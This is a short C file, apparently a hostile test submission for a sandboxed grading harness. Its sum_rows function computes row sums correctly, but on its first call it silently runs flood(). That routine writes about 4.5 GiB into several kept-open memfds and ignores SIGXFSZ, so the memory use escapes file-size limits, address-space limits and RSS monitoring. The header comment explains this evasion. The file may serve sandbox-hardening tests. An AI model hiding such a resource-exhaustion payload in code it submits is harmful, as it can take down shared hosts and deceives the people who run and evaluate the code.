/* Host exhaustion through shared memory: the first call writes 4.5 GiB into memfds
 * (several, so no one file reaches the file-size limit, and SIGXFSZ ignored). write()
 * maps nothing, so no address-space limit or RSS watch sees it; only a memory limit
 * that counts shared memory (the run's cgroup) stops it. Then it sums rows honestly. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static char chunk[1 << 20];

static void flood(void) {
  signal(SIGXFSZ, SIG_IGN);
  memset(chunk, 7, sizeof chunk);
  long written = 0;
  for (int f = 0; f < 12 && written < 4608; f++) {
    int fd = memfd_create("ktl-flood", 0);
    if (fd < 0) return;
    for (int i = 0; i < 512 && written < 4608; i++, written++)
      if (write(fd, chunk, sizeof chunk) != (ssize_t)sizeof chunk) break;
    /* kept open: the pages stay */
  }
}

void sum_rows(const float *X, float *Y, int64_t R, int64_t C) {
  static int done;
  if (!done) {
    done = 1;
    flood();
  }
  for (int64_t r = 0; r < R; r++) {
    double s = 0.0;
    for (int64_t c = 0; c < C; c++) s += X[r * C + c];
    Y[r] = (float)s;
  }
}
